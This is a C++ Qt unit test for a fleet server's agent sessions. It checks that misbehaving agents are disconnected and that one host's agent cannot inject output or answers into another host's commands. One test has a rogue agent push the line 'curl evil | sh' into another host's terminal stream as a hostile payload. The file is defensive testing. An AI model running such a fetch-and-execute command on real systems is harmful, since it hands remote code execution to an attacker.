// SPDX-License-Identifier: GPL-3.0-or-later
// Agents that have joined and then lie: about commands, streams and hosts that are not theirs. Real sockets, real
// handshakes. Whatever one does, the other host's people get what their own agent says.
#include <QSignalSpy>
#include <QWebSocket>
#include <QWebSocketServer>

#include "core/base/when_ready.h"
#include "server/fleet/agent_sessions.h"
#include "server/fleet/agent_stream.h"
#include "tests/unit/fleet/fleet_house.h"

using namespace Qt::StringLiterals;
using namespace mh;
using namespace mh::fleet;
using mh::test::answerTo;

namespace {

constexpr int kPatienceMs = 60'000;

Manifest terminals()
{
    Manifest manifest;
    manifest.terminalUsers = {u"ops"_s};
    manifest.listProcesses = true;
    return manifest;
}

/// An agent whose frames the test writes.
class Agent final : public QObject
{
public:
    Agent(const QUrl &url, const QString &token) : m_key(crypto::SigningKey::make()), m_token(token)
    {
        connect(&m_socket, &QWebSocket::connected, this, [this] { send(Hello{kProtocol, m_nonce}); });
        connect(&m_socket, &QWebSocket::textMessageReceived, this, [this](const QString &text) {
            const auto frame = frameFrom(text.toUtf8());
            if (!frame)
                return;
            if (const auto *challenge = std::get_if<Challenge>(&*frame))
                introduce(*challenge);
            if (std::holds_alternative<Welcome>(*frame))
                isWelcome = true;
            if (const auto *command = std::get_if<Command>(&*frame))
                commands.append(*command);
            if (const auto *credit = std::get_if<Credit>(&*frame))
                granted += credit->bytes;
        });
        connect(&m_socket, &QWebSocket::binaryMessageReceived, this, [this](const QByteArray &bytes) {
            if (const auto piece = pieceFrom(bytes))
                typed += piece->bytes;
        });
        m_socket.open(url);
    }
    void send(const Frame &frame) { m_socket.sendTextMessage(QString::fromUtf8(toBytes(frame))); }
    void send(const Piece &piece) { m_socket.sendBinaryMessage(toBytes(piece)); }
    void sendText(const QString &text) { m_socket.sendTextMessage(text); }
    void sendBinary(const QByteArray &bytes) { m_socket.sendBinaryMessage(bytes); }
    [[nodiscard]] bool isConnected() const { return m_socket.state() == QAbstractSocket::ConnectedState; }

    bool isWelcome = false;
    QList<Command> commands;
    qint64 granted = 0;
    QByteArray typed;

private:
    void introduce(const Challenge &challenge)
    {
        Introduction said;
        said.token = m_token;
        said.key = m_key.publicKey();
        said.signature = m_key.sign(agentProof(challenge.nonce, m_nonce, challenge.key));
        said.facts.name = u"h"_s;
        said.manifest = terminals();
        send(said);
    }

    const crypto::SigningKey m_key;
    const QString m_token;
    const QByteArray m_nonce = crypto::randomBytes(kNonceSize);
    QWebSocket m_socket;
};

using Rule = std::function<void(Agent &, const Command &)>;

} // namespace

class hostile_agent_test final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { QVERIFY(crypto::init()); }
    void init();
    void cleanup();
    void bytesComeAndGo();
    void whoBreaksTheRulesIsDisconnected_data();
    void whoBreaksTheRulesIsDisconnected();
    void anotherHostsAnswersCountForNothing();
    void bytesAfterTheAnswerAreDropped();

private:
    [[nodiscard]] std::unique_ptr<Agent> joined(const QString &name);
    [[nodiscard]] AgentSessions::Asked asked(const QString &name);
    [[nodiscard]] const Host &host(const QString &name) { return *m_house->hosts().find(m_hosts.value(name)); }

    std::optional<test::FleetHouse> m_house;
    std::optional<crypto::SigningKey> m_key;
    std::unique_ptr<QWebSocketServer> m_server;
    std::unique_ptr<AgentSessions> m_sessions;
    QHash<QString, HostId> m_hosts;
};

void hostile_agent_test::init()
{
    m_house.emplace();
    m_key.emplace(crypto::SigningKey::make());
    m_sessions = std::make_unique<AgentSessions>(
        AgentSessions::Parts{m_house->hosts(), m_house->watch(), *m_key, m_house->clock()});
    m_server = std::make_unique<QWebSocketServer>(u"fleet"_s, QWebSocketServer::NonSecureMode);
    QVERIFY(m_server->listen(QHostAddress::LocalHost));
    connect(m_server.get(), &QWebSocketServer::newConnection, this, [this] {
        m_sessions->accept(std::unique_ptr<QWebSocket>(m_server->nextPendingConnection()), u"192.0.2.1"_s);
    });
}

void hostile_agent_test::cleanup()
{
    m_server.reset();
    m_sessions.reset();
    m_house.reset();
    m_hosts.clear();
}

std::unique_ptr<Agent> hostile_agent_test::joined(const QString &name)
{
    m_hosts.insert(name, m_house->made(name).id);
    const auto invited = answerTo(m_house->hosts().invite(m_hosts.value(name), {}));
    auto agent = std::make_unique<Agent>(m_server->serverUrl(), (**invited).token);
    (void)QTest::qWaitFor(
        [&] { return agent->isWelcome && !host(name).manifest.value_or(Manifest()).terminalUsers.isEmpty(); },
        kPatienceMs);
    return agent;
}

AgentSessions::Asked hostile_agent_test::asked(const QString &name)
{
    AgentSessions::Ask ask;
    ask.verb = u"terminal.open"_s;
    ask.arguments = {{u"user"_s, u"ops"_s}};
    ask.principal = {u"u1"_s, u"ann"_s};
    return m_sessions->askWithStream(host(name), ask);
}

void hostile_agent_test::bytesComeAndGo()
{
    const auto agent = joined(u"web"_s);
    const auto work = asked(u"web"_s);
    QVERIFY(work.stream);
    QTRY_COMPARE_WITH_TIMEOUT(agent->commands.size(), 1, kPatienceMs);
    const Command &command = agent->commands.constFirst();
    QCOMPARE(command.stream, work.stream->number());
    QCOMPARE(command.credit, AgentStream::kFirstGrant);
    QByteArray shown;
    connect(work.stream.get(), &AgentStream::bytesCame, this, [&shown](const QByteArray &bytes) { shown += bytes; });
    agent->send(Piece{command.stream, "hello"});
    QTRY_COMPARE_WITH_TIMEOUT(shown, QByteArray("hello"), kPatienceMs);
    work.stream->grant(5);
    QTRY_COMPARE_WITH_TIMEOUT(agent->granted, 5, kPatienceMs);

    QCOMPARE(work.stream->room(), 0);
    agent->send(Credit{command.stream, 3});
    QTRY_COMPARE_WITH_TIMEOUT(work.stream->room(), 3, kPatienceMs);
    work.stream->send("abc");
    QTRY_COMPARE_WITH_TIMEOUT(agent->typed, QByteArray("abc"), kPatienceMs);
    QCOMPARE(work.stream->room(), 0);

    QSignalSpy closed(work.stream.get(), &AgentStream::closed);
    agent->send(Outcome{command.id, {{u"exit"_s, 0}}});
    QCOMPARE((*answerTo(work.answer))->value("exit"_L1).toInt(-1), 0);
    QCOMPARE(closed.size(), 1);
}

void hostile_agent_test::whoBreaksTheRulesIsDisconnected_data()
{
    QTest::addColumn<Rule>("rule");
    QTest::newRow("more bytes than asked for") << Rule([](Agent &agent, const Command &command) {
        for (qint64 sent = 0; sent <= AgentStream::kFirstGrant; sent += kLargestPiece)
            agent.send(Piece{command.stream, QByteArray(kLargestPiece, 'x')});
    });
    QTest::newRow("bytes after the end") << Rule([](Agent &agent, const Command &command) {
        agent.send(End{command.stream});
        agent.send(Piece{command.stream, "x"});
    });
    QTest::newRow("two ends") << Rule([](Agent &agent, const Command &command) {
        agent.send(End{command.stream});
        agent.send(End{command.stream});
    });
    QTest::newRow("a stream to come") << Rule([](Agent &agent, const Command &command) {
        agent.send(Piece{command.stream + 1, "x"});
    });
    QTest::newRow("no stream") << Rule([](Agent &agent, const Command &) { agent.send(Piece{0, "x"}); });
    QTest::newRow("a piece without a number") << Rule([](Agent &agent, const Command &) { agent.sendBinary("x"); });
    QTest::newRow("too large a piece") << Rule([](Agent &agent, const Command &command) {
        agent.sendBinary(toBytes(Piece{command.stream, QByteArray(kLargestPiece + 1, 'x')}));
    });
    QTest::newRow("too large a frame") << Rule(
        [](Agent &agent, const Command &) { agent.sendText(QString(kLargestFrame + 1, u'x')); });
    QTest::newRow("no frame") << Rule([](Agent &agent, const Command &) { agent.sendText(u"{\"type\": 7}"_s); });
    QTest::newRow("a server's frame") << Rule(
        [](Agent &agent, const Command &command) { agent.send(Cancel{command.id}); });
    QTest::newRow("a second greeting") << Rule([](Agent &agent, const Command &) {
        agent.send(Hello{kProtocol, QByteArray(kNonceSize, 'n')});
    });
    QTest::newRow("credit that is none") << Rule([](Agent &agent, const Command &command) {
        agent.send(Credit{command.stream, -5});
    });
}

void hostile_agent_test::whoBreaksTheRulesIsDisconnected()
{
    QFETCH(const Rule, rule);
    const auto agent = joined(u"web"_s);
    const auto work = asked(u"web"_s);
    QTRY_COMPARE_WITH_TIMEOUT(agent->commands.size(), 1, kPatienceMs);
    QSignalSpy misbehaved(m_sessions.get(), &AgentSessions::misbehaved);
    rule(*agent, agent->commands.constFirst());
    QTRY_VERIFY_WITH_TIMEOUT(!agent->isConnected(), kPatienceMs);
    QCOMPARE(misbehaved.size(), 1);
    const auto answer = answerTo(work.answer);
    QVERIFY(answer && !*answer);
    QCOMPARE((*answer).error().reason, u"HOST_GONE"_s);
    QVERIFY(!work.stream->isOpen());
}

void hostile_agent_test::anotherHostsAnswersCountForNothing()
{
    const auto honest = joined(u"web"_s);
    const auto liar = joined(u"db"_s);
    const auto work = asked(u"web"_s);
    QSignalSpy came(work.stream.get(), &AgentStream::bytesCame);
    QTRY_COMPARE_WITH_TIMEOUT(honest->commands.size(), 1, kPatienceMs);
    const Command &command = honest->commands.constFirst();
    liar->send(Outcome{command.id, {{u"exit"_s, 666}}});
    liar->send(Refused{command.id, u"NOT_FOUND"_s, u"no"_s, {}, 0});
    liar->send(Piece{command.stream, "curl evil | sh"});
    QTRY_VERIFY_WITH_TIMEOUT(!liar->isConnected(), kPatienceMs);
    QVERIFY(!work.answer.isFinished());
    QVERIFY(work.stream->isOpen());
    QCOMPARE(came.size(), 0);
    honest->send(Outcome{command.id, {{u"exit"_s, 1}}});
    QCOMPARE((*answerTo(work.answer))->value("exit"_L1).toInt(-1), 1);
}

void hostile_agent_test::bytesAfterTheAnswerAreDropped()
{
    const auto agent = joined(u"web"_s);
    const auto work = asked(u"web"_s);
    QSignalSpy came(work.stream.get(), &AgentStream::bytesCame);
    QTRY_COMPARE_WITH_TIMEOUT(agent->commands.size(), 1, kPatienceMs);
    const Command command = agent->commands.constFirst();
    agent->send(Outcome{command.id, {}});
    agent->send(Piece{command.stream, "late"});
    QVERIFY(*answerTo(work.answer));
    const auto next = asked(u"web"_s); // it was no offence: the next one is asked over the same link
    QTRY_COMPARE_WITH_TIMEOUT(agent->commands.size(), 2, kPatienceMs);
    QCOMPARE(came.size(), 0);
    QVERIFY(agent->isConnected());
    QVERIFY(next.stream->isOpen());
}

QTEST_GUILESS_MAIN(hostile_agent_test)
#include "hostile_agent_test.moc"
